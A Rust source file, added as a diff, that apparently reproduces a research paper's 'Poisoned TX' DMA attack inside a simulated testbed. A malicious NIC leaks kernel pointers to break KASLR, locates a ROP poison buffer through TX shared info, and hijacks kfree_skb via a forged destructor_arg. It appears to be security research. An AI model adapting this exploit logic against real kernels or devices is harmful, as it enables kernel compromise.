@@ -1,0 +1,237 @@
+//! The Poisoned TX compound attack (§5.4, Figure 8).
+//!
+//! When the RingFlood PFN guess is not an option (small driver
+//! footprint), the attacker *reads* the missing KVA instead of guessing
+//! it: a userspace service (here: an echo server) is coerced into
+//! sending the attacker's own bytes back out. The TX packet's
+//! `skb_shared_info` — READ-mapped for the device along with the linear
+//! buffer's page — then contains `frags[]` entries whose `struct page`
+//! pointers name the very page holding the attacker's payload.
+//!
+//! The attack runs in two rounds:
+//!
+//! 1. A probe packet is echoed; scanning the READ-mapped TX page leaks
+//!    `init_net` (text base), slab heap pointers (`page_offset_base`)
+//!    and `frags[]` (`vmemmap_base`) — a complete KASLR break.
+//! 2. The poison payload is echoed; the device reads its `struct page`
+//!    from the TX shared info, translates it to a KVA (Figure 8 step 3),
+//!    **delays the TX completion** so the buffer stays live, acquires a
+//!    write window on a fresh RX buffer, points its `destructor_arg` at
+//!    the now-known poison KVA, and lets `kfree_skb` do the rest.
+
+use crate::cpu::MiniCpu;
+use crate::hijack;
+use crate::image::KernelImage;
+use crate::kaslr::AttackerKnowledge;
+use crate::rop::PoisonedBuffer;
+use crate::window::{rx_with_window, PoisonPlan};
+use devsim::testbed::{MemConfigLite, TestbedConfig};
+use devsim::Testbed;
+use dma_core::vuln::{AttackOutcome, WindowPath};
+use dma_core::{DmaError, Iova, Kva, Result, PAGE_MASK, PAGE_SIZE};
+use sim_iommu::{InvalidationMode, IommuConfig};
+use sim_net::driver::{DriverConfig, UnmapOrder};
+use sim_net::packet::Packet;
+use sim_net::shinfo::{FRAG_SIZE, SHINFO_FRAGS};
+use sim_net::skb::NET_SKB_PAD;
+use sim_net::stack::StackConfig;
+
+/// Byte offset of the poison within the attack packet's payload.
+const POISON_IN_PAYLOAD: usize = 64;
+
+/// Report of a Poisoned TX run.
+#[derive(Clone, Debug)]
+pub struct PoisonedTxReport {
+    /// Outcome.
+    pub outcome: AttackOutcome,
+    /// Knowledge recovered in round 1.
+    pub knowledge: AttackerKnowledge,
+    /// The poison KVA read out of the TX shared info (Figure 8 step 3).
+    pub poison_kva: Option<Kva>,
+    /// Whether the driver's TX watchdog fired before the attack landed.
+    pub watchdog_fired: bool,
+}
+
+/// Boots the victim for this attack: an echo service is reachable, the
+/// IOMMU/driver are configured per the requested window path.
+pub fn boot(window: WindowPath, seed: u64) -> Result<Testbed> {
+    Testbed::new(TestbedConfig {
+        mem: MemConfigLite {
+            kaslr_seed: Some(seed),
+            ..Default::default()
+        },
+        iommu: IommuConfig {
+            mode: match window {
+                WindowPath::DeferredIotlb => InvalidationMode::Deferred,
+                _ => InvalidationMode::Strict,
+            },
+            ..Default::default()
+        },
+        driver: DriverConfig {
+            unmap_order: match window {
+                WindowPath::UnmapAfterBuild => UnmapOrder::BuildThenUnmap,
+                _ => UnmapOrder::UnmapThenBuild,
+            },
+            ..Default::default()
+        },
+        stack: StackConfig {
+            echo_service: true,
+            ..Default::default()
+        },
+        boot_noise_seed: Some(seed),
+    })
+}
+
+/// Sends a packet from the device to the echo service and returns the
+/// index of the TX descriptor carrying the reply.
+fn echo_round(tb: &mut Testbed, src: u32, payload: Vec<u8>) -> Result<usize> {
+    let before: Vec<usize> = tb.driver.tx_descriptors().iter().map(|d| d.idx).collect();
+    let descs = tb.driver.rx_descriptors();
+    let (iova, _) = *descs.first().ok_or(DmaError::RingEmpty)?;
+    let p = Packet::udp(src, 1, payload);
+    let n = tb
+        .nic
+        .inject_rx(&mut tb.ctx, &mut tb.iommu, &mut tb.mem.phys, iova, &p)?;
+    tb.driver.device_rx_complete(n)?;
+    tb.rx_process()?;
+    tb.driver
+        .tx_descriptors()
+        .iter()
+        .map(|d| d.idx)
+        .find(|i| !before.contains(i))
+        .ok_or(DmaError::AttackFailed("echo service produced no TX packet"))
+}
+
+/// Reads the TX skb's shared info through the linear mapping's page and
+/// extracts `frags[0]` — device-side (Figure 8: "the NIC identifies the
+/// poisoned buffer").
+///
+/// The device knows `alloc_skb`'s geometry from the kernel source: the
+/// linear IOVA points `NET_SKB_PAD` into the buffer and the shared info
+/// sits at `data + buf_size`, i.e. `linear_iova - NET_SKB_PAD +
+/// buf_size`.
+fn read_tx_frag0(tb: &mut Testbed, tx_idx: usize, buf_size: usize) -> Result<(u64, u32, u32)> {
+    let desc = tb
+        .driver
+        .tx_descriptors()
+        .into_iter()
+        .find(|d| d.idx == tx_idx)
+        .ok_or(DmaError::AttackFailed("TX descriptor vanished"))?;
+    let shinfo_iova =
+        Iova(desc.iova.raw() - NET_SKB_PAD as u64 + buf_size as u64 + SHINFO_FRAGS as u64);
+    let page = tb
+        .nic
+        .read_u64(&mut tb.ctx, &mut tb.iommu, &tb.mem.phys, shinfo_iova)?;
+    let mut rest = [0u8; 8];
+    tb.nic.read(
+        &mut tb.ctx,
+        &mut tb.iommu,
+        &tb.mem.phys,
+        Iova(shinfo_iova.raw() + 8),
+        &mut rest,
+    )?;
+    let offset = u32::from_le_bytes(rest[0..4].try_into().expect("4 bytes"));
+    let size = u32::from_le_bytes(rest[4..8].try_into().expect("4 bytes"));
+    let _ = FRAG_SIZE;
+    Ok((page, offset, size))
+}
+
+/// The echo TX skb's `buf_size` (device-known build constant: the echo
+/// path allocates `alloc_skb(HEADER_SIZE + 64)`).
+fn echo_tx_buf_size() -> usize {
+    sim_net::skb::skb_data_align(NET_SKB_PAD + sim_net::packet::HEADER_SIZE + 64)
+}
+
+/// Runs the Poisoned TX attack end to end.
+pub fn run(image: &KernelImage, window: WindowPath, seed: u64) -> Result<PoisonedTxReport> {
+    let mut tb = boot(window, seed)?;
+    tb.mem.install_text(&image.bytes);
+
+    // ---- Round 1: probe echoes → KASLR break from the TX pages. ----
+    // Each echo allocates a fresh socket and TX skb from the same
+    // kmalloc-512 caches, and each READ-mapped TX page is scanned: it
+    // carries heap pointers, the shared info's frag (a vmemmap pointer),
+    // and — sooner or later — a socket's init_net pointer ("scanning
+    // leaked pages during I/O", §2.4). A handful of probes suffices.
+    let mut knowledge = AttackerKnowledge::new();
+    for probe in 0u8..8 {
+        // A fresh source address per probe: a new flow means a fresh
+        // socket allocation right next to the probe's own TX buffer.
+        let probe_idx = echo_round(&mut tb, 0x600 + probe as u32, vec![0xa5 ^ probe; 96])?;
+        let probe_desc = tb
+            .driver
+            .tx_descriptors()
+            .into_iter()
+            .find(|d| d.idx == probe_idx)
+            .ok_or(DmaError::AttackFailed("probe TX descriptor missing"))?;
+        let page_iova = Iova(probe_desc.iova.raw() & !PAGE_MASK);
+        let leaks = tb.nic.scan_for_pointers(
+            &mut tb.ctx,
+            &mut tb.iommu,
+            &tb.mem.phys,
+            page_iova,
+            PAGE_SIZE,
+        )?;
+        knowledge.absorb(&leaks);
+        // Let this probe's TX complete normally (nothing suspicious).
+        tb.complete_all_tx()?;
+        if knowledge.complete() {
+            break;
+        }
+    }
+    if !knowledge.complete() {
+        return Ok(PoisonedTxReport {
+            outcome: AttackOutcome::Blocked("round-1 scans did not break KASLR"),
+            knowledge,
+            poison_kva: None,
+            watchdog_fired: false,
+        });
+    }
+
+    // ---- Round 2: echo the poison, read its KVA, strike. ----
+    let poison = PoisonedBuffer::build(image, &knowledge)?;
+    let mut payload = vec![0u8; POISON_IN_PAYLOAD];
+    payload.extend_from_slice(&poison.bytes);
+    let atk_idx = echo_round(&mut tb, 0x66, payload)?;
+
+    // Figure 8 step 3: struct page → KVA.
+    let (page, offset, _size) = read_tx_frag0(&mut tb, atk_idx, echo_tx_buf_size())?;
+    let payload_kva = knowledge.page_ptr_to_kva(page, offset)?;
+    let poison_kva = Kva(payload_kva.raw() + POISON_IN_PAYLOAD as u64);
+
+    // Step 2 (delay): the device simply does NOT complete atk_idx. The
+    // watchdog gives it seconds; the strike takes microseconds.
+    let watchdog_fired = tb
+        .driver
+        .tx_timeout_check(&mut tb.ctx, &mut tb.mem, &mut tb.iommu)?;
+
+    // Step 4: window on a fresh RX buffer, destructor_arg → poison KVA.
+    let plan = PoisonPlan {
+        poison_kva: poison_kva.raw(),
+    };
+    let trigger = Packet::udp(0x67, 99, b"innocuous".to_vec()); // non-local, dropped
+    let (skb, poisoned) = rx_with_window(&mut tb, window, &trigger, &plan)?;
+    if !poisoned {
+        return Ok(PoisonedTxReport {
+            outcome: AttackOutcome::Blocked("no usable write window on the RX buffer"),
+            knowledge,
+            poison_kva: Some(poison_kva),
+            watchdog_fired,
+        });
+    }
+    tb.stack
+        .rx(&mut tb.ctx, &mut tb.mem, &mut tb.iommu, &mut tb.driver, skb)?;
+    let pending = tb
+        .stack
+        .pending_callbacks
+        .pop()
+        .ok_or(DmaError::AttackFailed("kfree_skb surfaced no callback"))?;
+    let cpu = MiniCpu::new(image, tb.mem.layout.text_base);
+    let outcome = hijack::fire(&cpu, &mut tb.ctx, &tb.mem, pending, 2);
+    Ok(PoisonedTxReport {
+        outcome,
+        knowledge,
+        poison_kva: Some(poison_kva),
+        watchdog_fired,
+    })
+}
